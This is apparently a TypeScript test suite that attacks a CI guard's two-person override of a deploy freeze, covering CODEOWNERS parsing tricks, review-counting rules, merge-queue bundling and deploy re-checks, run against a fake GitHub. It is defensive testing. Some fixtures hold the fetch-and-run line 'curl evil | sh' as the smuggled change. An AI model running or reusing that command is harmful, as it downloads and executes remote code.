/**
 * The guard's newest parts attacked, as the outside testers will: the two-person override of the
 * freeze (CODEOWNERS, approvals, the merge queue, the deploy's re-check). Every attack that got
 * through is kept with its exact failure; benign changes still pass. Where the verdict follows from
 * a pure function the test calls it; the rest run the trusted judge, or the deploy, against a fake
 * GitHub on real git repositories whose base holds a revocation in force.
 */
import * as assert from "assert";
import * as fs from "fs";
import * as path from "path";
import { Capture, commitFiles, environment, git, project, repository } from "./helpers";
import { Codeowners, ownerRule, parseCodeowners } from "../guard/codeowners";
import { Membership, OVERRIDE_LABEL, PullRequestFacts, decideOverride } from "../guard/override";
import { readCodeowners } from "../revocation/override";
import { FakeGitHub, fakeGitHub } from "./fakeGitHub";
import { FAILED, NOW, PASSED } from "./guardHarness";
import { FROZEN, ci, dev, run } from "./guardAttacksHarness";

describe("attacks on the guard's newest parts (issues 30 to 32)", function () {
    this.timeout(30_000);

    describe("1. the two-person override of the freeze", () => {
        it("fails a change to docs/CODEOWNERS while revocations are in force: GitHub reads it as the code owners when the repository has no other, so it is no documentation", async () => {
            // Before: docs/ counted as documentation, so the code owners the override trusts changed behind a green guard.
            const base = { "Pulumi.dev.yaml": dev(), "docs/CODEOWNERS": "* @alice\n", "docs/guide.md": "# Guide\n" };
            assert.deepStrictEqual(await run(base, { "docs/CODEOWNERS": "* @mallory-friend\n", "docs/guide.md": "# Guide, edited\n" }), {
                code: 1,
                lines: [FROZEN("docs/CODEOWNERS"), FAILED(1)],
                stderr: "",
            });
            // Documentation beside it still passes.
            assert.deepStrictEqual(await run(base, { "docs/guide.md": "# Guide, edited\n" }), { code: 0, lines: [PASSED], stderr: "" });
        });

        it("refuses a CODEOWNERS that GitHub may read otherwise than this tool: a byte order mark, a no-break space, a lone carriage return, a / alone", () => {
            // Before: trim() dropped the byte order mark and the no-break space, and / matched nothing; the file was read.
            const problems = (text: string) => parseCodeowners(".github/CODEOWNERS", text).problems;
            assert.deepStrictEqual(
                [
                    problems("\uFEFF*  @alice\n"),
                    problems("*  @alice\n\u00A0/tools/  @bob\n"),
                    problems("*  @alice\r/tools/  @bob\n"),
                    problems("/tools/  @bob\n/  @carol\n"),
                    problems("*  @alice\u2028/tools/  @bob\n"),
                ],
                [
                    [
                        ".github/CODEOWNERS: line 1: starts with a byte order mark (U+FEFF), which GitHub does not document reading; save the file without it",
                    ],
                    [
                        ".github/CODEOWNERS: line 2: holds the character U+00A0, a control character or whitespace other than a space or a tab, which GitHub may read otherwise than this tool; remove it",
                    ],
                    [
                        ".github/CODEOWNERS: line 1: holds the character U+000D, a control character or whitespace other than a space or a tab, which GitHub may read otherwise than this tool; remove it",
                    ],
                    ['.github/CODEOWNERS: line 2: the pattern "/" is refused: a / alone names no path GitHub documents'],
                    [
                        ".github/CODEOWNERS: line 1: holds the character U+2028, a control character or whitespace other than a space or a tab, which GitHub may read otherwise than this tool; remove it",
                    ],
                ],
            );
            // Windows line ends are read as GitHub reads them.
            assert.deepStrictEqual(problems("*  @alice\r\n/tools/  @bob\r\n"), []);
        });

        it("refuses a base CODEOWNERS that is a symbolic link or a folder, whose text is not what GitHub reads as owners", () => {
            // Before: git show printed the link's target ("* @mallory") or the folder's listing and that was parsed as the owners.
            const root = repository({ "Pulumi.dev.yaml": dev(), CODEOWNERS: "* @alice\n" });
            fs.mkdirSync(path.join(root, ".github"), { recursive: true });
            fs.symlinkSync("* @mallory", path.join(root, ".github", "CODEOWNERS"));
            const linked = commitFiles(root, {}, "a link");
            fs.rmSync(path.join(root, ".github", "CODEOWNERS"));
            const folder = commitFiles(root, { ".github/CODEOWNERS/README": "* @mallory\n" }, "a folder");
            fs.rmSync(path.join(root, ".github", "CODEOWNERS"), { recursive: true });
            const plain = commitFiles(root, { ".github/CODEOWNERS": "* @bob\n" }, "a file");
            assert.deepStrictEqual(
                [linked, folder].map((commit) => readCodeowners(root, commit)?.problems),
                [
                    [".github/CODEOWNERS is a symbolic link, not a regular file; GitHub's reading of it is not documented"],
                    [".github/CODEOWNERS is a folder, not a regular file; GitHub's reading of it is not documented"],
                ],
            );
            assert.deepStrictEqual(readCodeowners(root, plain)?.rules[0].owners, [{ kind: "user", login: "bob" }]);
        });

        /** The override's decision for `paths` of pull request #7 by mallory, its head HEAD, with `reviews`. */
        const HEAD = "a".repeat(40);
        const decide = (
            codeowners: Codeowners,
            paths: string[],
            reviews: PullRequestFacts["reviews"],
            writers: ReadonlyMap<string, Membership> = new Map(reviews.map((r) => [r.login.toLowerCase(), { member: true }])),
        ) => {
            const decision = decideOverride({
                paths,
                codeowners,
                pr: { number: 7, author: "mallory", head: HEAD, labels: [OVERRIDE_LABEL], reviews },
                memberships: new Map(),
                writers,
            });
            return decision.granted
                ? `granted: ${decision.approvals.map((a) => `@${a.login} ${a.paths.join(" ")}`).join("; ")}`
                : decision.text;
        };
        const approved = (login: string, commit = HEAD) => ({ login, state: "APPROVED", commit });
        const DOES_NOT_APPLY = `the override (label ${OVERRIDE_LABEL} on pull request #7) does not apply`;

        it("reads patterns as GitHub does: paths case-sensitive, a leading slash anchoring, a trailing slash at any depth, ** across folders", () => {
            // Held: the owner of each path is the one GitHub names, so an owner of TOOLS/ cannot approve tools/ nor the other way round.
            const codeowners = parseCodeowners(
                ".github/CODEOWNERS",
                "*  @alice\n/tools/  @bob\napps/  @carol\n/infra/**/deploy.sh  @dave\n*.SH  @erin\n",
            );
            const owner = (p: string) =>
                ownerRule(codeowners, p)
                    ?.owners.map((o) => (o.kind === "user" ? o.login : "?"))
                    .join(" ");
            assert.deepStrictEqual(
                [
                    "tools/run.sh",
                    "TOOLS/run.sh",
                    "x/tools/run.sh",
                    "src/apps/a.ts",
                    "apps",
                    "infra/deploy.sh",
                    "infra/a/b/deploy.sh",
                    "run.SH",
                    "run.sh",
                ].map((p) => `${p}: ${owner(p)}`),
                [
                    "tools/run.sh: bob",
                    "TOOLS/run.sh: alice",
                    "x/tools/run.sh: alice",
                    "src/apps/a.ts: carol",
                    "apps: alice",
                    "infra/deploy.sh: dave",
                    "infra/a/b/deploy.sh: dave",
                    "run.SH: erin",
                    "run.sh: alice",
                ],
            );
            assert.deepStrictEqual(
                decide(codeowners, ["TOOLS/run.sh"], [approved("bob")]),
                `${DOES_NOT_APPLY}: no code owner other than the author approved the head commit ${HEAD.slice(0, 12)} for TOOLS/run.sh (owners @alice by .github/CODEOWNERS line 1)`,
            );
        });

        it("refuses owners GitHub would not read: a trailing dot, a leading hyphen, a Cyrillic letter, a bot", () => {
            // Held: each makes the whole file refused, so no approval counts.
            const problems = (owner: string) => parseCodeowners("CODEOWNERS", `*  ${owner}\n`).problems;
            assert.deepStrictEqual(["@alice.", "@-alice", "@\u0430lice", "@renovate[bot]", "@acme/", "alice"].map(problems), [
                ['CODEOWNERS: line 1: "@alice." is not an owner GitHub reads (@user, @org/team or an email address)'],
                ['CODEOWNERS: line 1: "@-alice" is not an owner GitHub reads (@user, @org/team or an email address)'],
                ['CODEOWNERS: line 1: "@\u0430lice" is not an owner GitHub reads (@user, @org/team or an email address)'],
                ['CODEOWNERS: line 1: "@renovate[bot]" is not an owner GitHub reads (@user, @org/team or an email address)'],
                ['CODEOWNERS: line 1: "@acme/" is not an owner GitHub reads (@user, @org/team or an email address)'],
                ['CODEOWNERS: line 1: "alice" is not an owner GitHub reads (@user, @org/team or an email address)'],
            ]);
        });

        it("counts only an owner's latest deciding review of the head commit: never the author in another case, a dismissed or withdrawn approval, one on another commit, a comment, a bot", () => {
            // Held: every variant the issue names is refused, and an approval a later comment leaves standing counts, as on GitHub.
            const codeowners = parseCodeowners(".github/CODEOWNERS", "*  @alice @Mallory\n");
            const cases: Record<string, PullRequestFacts["reviews"]> = {
                author: [approved("MALLORY")],
                dismissed: [approved("alice"), { login: "alice", state: "DISMISSED", commit: HEAD }],
                withdrawn: [approved("alice"), { login: "ALICE", state: "CHANGES_REQUESTED", commit: HEAD }],
                earlier: [approved("alice", "b".repeat(40))],
                commented: [{ login: "alice", state: "COMMENTED", commit: HEAD }],
                pending: [{ login: "alice", state: "PENDING", commit: HEAD }],
                bot: [approved("alice[bot]")],
                standing: [approved("alice"), { login: "alice", state: "COMMENTED", commit: HEAD }],
            };
            const uncovered = `${DOES_NOT_APPLY}: no code owner other than the author approved the head commit ${HEAD.slice(0, 12)} for tools/x.sh (owners @alice @Mallory by .github/CODEOWNERS line 1)`;
            assert.deepStrictEqual(
                Object.fromEntries(Object.entries(cases).map(([name, reviews]) => [name, decide(codeowners, ["tools/x.sh"], reviews)])),
                {
                    author: `${uncovered} (@MALLORY is the author)`,
                    dismissed: uncovered,
                    withdrawn: uncovered,
                    earlier: `${uncovered} (@alice approved an earlier commit ${"b".repeat(12)}, not the head ${HEAD.slice(0, 12)})`,
                    commented: uncovered,
                    pending: uncovered,
                    bot: uncovered,
                    standing: "granted: @alice tools/x.sh",
                },
            );
        });

        describe("the trusted judge with GitHub's API (a fake server)", () => {
            const BASE_OWNERS = "*  @alice\n/Pulumi.*.yaml\n";
            let server: FakeGitHub | undefined;
            afterEach(async () => {
                await server?.close();
                server = undefined;
            });

            /** A clone at the base (dev's victim revoked, `owners` as .github/CODEOWNERS) that has fetched `judged`, the commit the event names. */
            function clonedAt(origin: string, base: string, judged: string) {
                const clone = project({});
                fs.rmSync(clone, { recursive: true, force: true });
                git(path.dirname(clone), "clone", "-q", "--no-local", "--no-checkout", origin, clone);
                git(clone, "checkout", "-q", base);
                git(clone, "fetch", "-q", "origin", judged);
                return clone;
            }

            function origin(owners = BASE_OWNERS) {
                const root = repository({ "Pulumi.dev.yaml": dev(), ".github/CODEOWNERS": owners });
                return { root, base: git(root, "rev-parse", "HEAD").trim() };
            }

            /** A branch off the base with `files` committed; the repository is left on main. */
            function branch(root: string, base: string, name: string, files: Record<string, string | undefined>) {
                git(root, "checkout", "-q", "-b", name, base);
                const sha = commitFiles(root, files, name);
                git(root, "checkout", "-q", "main");
                return sha;
            }

            /** GitHub's answer that these reviewers may write to acme/infra. */
            const WRITERS = Object.fromEntries(
                ["alice", "friend"].map((login) => [`/repos/acme/infra/collaborators/${login}/permission`, { permission: "write" }]),
            );

            async function judge(clone: string, event: { name: string; payload: unknown }, routes: Record<string, unknown>) {
                await server?.close();
                server = await fakeGitHub({ ...WRITERS, ...routes });
                const file = path.join(project({}), "event.json");
                fs.writeFileSync(file, JSON.stringify(event.payload));
                const [out, err] = [new Capture(), new Capture()];
                const code = await ci(
                    ["guard"],
                    out,
                    err,
                    environment({
                        root: clone,
                        now: NOW,
                        variables: {
                            ...process.env,
                            GITHUB_EVENT_NAME: event.name,
                            GITHUB_EVENT_PATH: file,
                            GITHUB_TOKEN: "a-token",
                            GITHUB_REPOSITORY: "acme/infra",
                            GITHUB_API_URL: server.url,
                        },
                    }),
                );
                return { code, first: out.text.split("\n")[0], stderr: err.text };
            }

            const pull = (head: string) => ({
                number: 7,
                user: { login: "mallory" },
                head: { sha: head },
                labels: [{ name: OVERRIDE_LABEL }],
            });
            const review = (login: string, commit: string) => ({ user: { login }, state: "APPROVED", commit_id: commit });
            const OVERRIDDEN = (paths: string, head: string, who: string) =>
                `ok   project: ${paths}: changed while revocations are in force, allowed by the override of pull request #7 (label ${OVERRIDE_LABEL}): code owners approved its head commit ${head.slice(0, 12)}: ${who}; every other rule still applies, and the deploy judges the change again with its own program`;

            it("judges the approvals by the base's CODEOWNERS, never by the one the pull request changes", async () => {
                // Held: the pull request makes mallory's friend the owner of tools/, and the friend approves.
                const { root, base } = origin();
                const head = branch(root, base, "feature", {
                    ".github/CODEOWNERS": `${BASE_OWNERS}/tools/  @friend\n`,
                    "tools/x.sh": "exit 0\n",
                });
                const clone = clonedAt(root, base, head);
                const event = {
                    name: "pull_request_review",
                    payload: { pull_request: { number: 7, base: { sha: base }, head: { sha: head } } },
                };
                const result = await judge(clone, event, {
                    "/repos/acme/infra/pulls/7": pull(head),
                    "/repos/acme/infra/pulls/7/reviews": [review("friend", head)],
                });
                assert.deepStrictEqual(result, {
                    code: 1,
                    first: `${FROZEN(".github/CODEOWNERS, tools/x.sh")}; ${DOES_NOT_APPLY}: no code owner other than the author approved the head commit ${head.slice(0, 12)} for .github/CODEOWNERS (owners @alice by .github/CODEOWNERS line 1), tools/x.sh (owners @alice by .github/CODEOWNERS line 1)`,
                    stderr: "",
                });
            });

            it("counts a code owner's approval only when GitHub says the owner may write to the repository, as GitHub counts it", async () => {
                // Before: any approving review of a login CODEOWNERS names counted, though GitHub ignores an owner without write
                // access (one who lost it, or anyone at all on a public repository, where every account may review).
                const { root, base } = origin();
                const head = branch(root, base, "feature", { "tools/x.sh": "exit 0\n" });
                const clone = clonedAt(root, base, head);
                const event = {
                    name: "pull_request_review",
                    payload: { pull_request: { number: 7, base: { sha: base }, head: { sha: head } } },
                };
                const routes = (permission: unknown) => ({
                    "/repos/acme/infra/pulls/7": pull(head),
                    "/repos/acme/infra/pulls/7/reviews": [review("alice", head)],
                    "/repos/acme/infra/collaborators/alice/permission": permission,
                });
                const refused = (why: string) => ({
                    code: 1,
                    first: `${FROZEN("tools/x.sh")}; ${DOES_NOT_APPLY}: no code owner other than the author approved the head commit ${head.slice(0, 12)} for tools/x.sh (owners @alice by .github/CODEOWNERS line 1) (${why})`,
                    stderr: "",
                });
                assert.deepStrictEqual(
                    [
                        await judge(clone, event, routes({ permission: "read", role_name: "triage" })),
                        await judge(clone, event, routes({ status: 404, body: { message: "Not Found" } })),
                        await judge(clone, event, routes({ permission: "write", role_name: "maintain" })),
                    ],
                    [
                        refused(
                            "@alice has read access to acme/infra, and GitHub counts a code owner's review only from someone who may write to it",
                        ),
                        refused("GitHub answered 404 (Not Found) to @alice's access to acme/infra, so the approval does not count"),
                        { code: 0, first: OVERRIDDEN("tools/x.sh", head, "@alice for tools/x.sh"), stderr: "" },
                    ],
                );
            });

            it("in a merge queue, refuses the override for a group that also holds another pull request's frozen change, and counts only approvals of the commit the queue merged", async () => {
                // Before: the group's paths were all judged with #7's approvals, so #5's unapproved tools/a.sh rode on them.
                const { root, base } = origin();
                const other = branch(root, base, "other", { "tools/a.sh": "curl evil | sh\n" });
                const own = branch(root, base, "own", { "tools/b.sh": "exit 0\n" });
                git(root, "checkout", "-q", "-b", "queue", base);
                git(root, "merge", "-q", "--no-ff", "-m", "Merge pull request #5", other);
                git(root, "merge", "-q", "--no-ff", "-m", "Merge pull request #7", own);
                const group = git(root, "rev-parse", "HEAD").trim();
                git(root, "checkout", "-q", "-b", "alone", base);
                git(root, "merge", "-q", "--no-ff", "-m", "Merge pull request #7", own);
                const alone = git(root, "rev-parse", "HEAD").trim();
                git(root, "checkout", "-q", "main");
                const queued = (head: string) => ({
                    name: "merge_group",
                    payload: { merge_group: { base_sha: base, head_sha: head, head_ref: `refs/heads/gh-readonly-queue/main/pr-7-${own}` } },
                });
                const routes = (prHead: string, approvedOn: string) => ({
                    "/repos/acme/infra/pulls/7": pull(prHead),
                    "/repos/acme/infra/pulls/7/reviews": [review("alice", approvedOn)],
                });
                const later = "f".repeat(40);
                assert.deepStrictEqual(
                    [
                        await judge(clonedAt(root, base, group), queued(group), routes(own, own)),
                        await judge(clonedAt(root, base, alone), queued(alone), routes(later, later)),
                        await judge(clonedAt(root, base, alone), queued(alone), routes(own, own)),
                    ],
                    [
                        {
                            code: 1,
                            first: `${FROZEN("tools/a.sh, tools/b.sh")}; ${DOES_NOT_APPLY}: the merge group ${group.slice(0, 12)} holds 2 commits on top of its base ${base.slice(0, 12)}, so it brings more than pull request #7's own change (other pull requests queued ahead of it, or a rebase of several commits), and the override is checked for one pull request at a time; while revocations are in force, let the merge queue build groups of one pull request (maximum group size 1) and merge with a merge commit or a squash`,
                            stderr: "",
                        },
                        {
                            code: 1,
                            first: `${FROZEN("tools/b.sh")}; ${DOES_NOT_APPLY}: no code owner other than the author approved the head commit ${own.slice(0, 12)} for tools/b.sh (owners @alice by .github/CODEOWNERS line 1) (@alice approved an earlier commit ${later.slice(0, 12)}, not the head ${own.slice(0, 12)})`,
                            stderr: "",
                        },
                        { code: 0, first: OVERRIDDEN("tools/b.sh", own, "@alice for tools/b.sh"), stderr: "" },
                    ],
                );
            });

            it("the deploy refuses a frozen change hidden in an earlier undeployed commit pushed past any pull request, though a later merge's override holds", async () => {
                // Held: each commit since the deployed one is checked, not only the last merge.
                const { root, base } = origin();
                const pushed = commitFiles(root, { "tools/a.sh": "curl evil | sh\n" }, "pushed straight to main");
                const merged = commitFiles(root, { "tools/b.sh": "exit 0\n" }, "Merge pull request #13");
                const bin = project({});
                fs.writeFileSync(
                    path.join(bin, "pulumi"),
                    `#!/bin/sh\necho "$*" >> "${bin}/log"\ncase "$1 $2 $3" in "stack tag ls") echo '{"revocable-roles:deployed-commit":"${base}"}';; esac\nexit 0\n`,
                    { mode: 0o755 },
                );
                server = await fakeGitHub({
                    ...WRITERS,
                    [`/repos/acme/infra/commits/${pushed}/pulls`]: [],
                    [`/repos/acme/infra/commits/${merged}/pulls`]: [
                        { ...pull("d".repeat(40)), number: 13, merged_at: "2026-11-27T11:30:00Z" },
                    ],
                    "/repos/acme/infra/pulls/13/reviews": [review("alice", "d".repeat(40))],
                });
                const [out, err] = [new Capture(), new Capture()];
                const variables = {
                    ...process.env,
                    PATH: `${bin}:${process.env.PATH}`,
                    GITHUB_TOKEN: "a-token",
                    GITHUB_REPOSITORY: "acme/infra",
                    GITHUB_API_URL: server.url,
                };
                const code = await ci(["deploy", "--stack", "dev"], out, err, environment({ root, now: NOW, variables }));
                assert.deepStrictEqual(
                    { code, first: out.text.split("\n")[1], calls: fs.readFileSync(path.join(bin, "log"), "utf8") },
                    {
                        code: 1,
                        first: `${FROZEN("tools/a.sh, tools/b.sh")}; the deploy checked the override again and it does not hold: commit ${pushed.slice(0, 12)} (tools/a.sh) was not merged through a pull request GitHub knows`,
                        calls: "stack tag ls --json --stack dev\n",
                    },
                );
            });
        });
    });
});
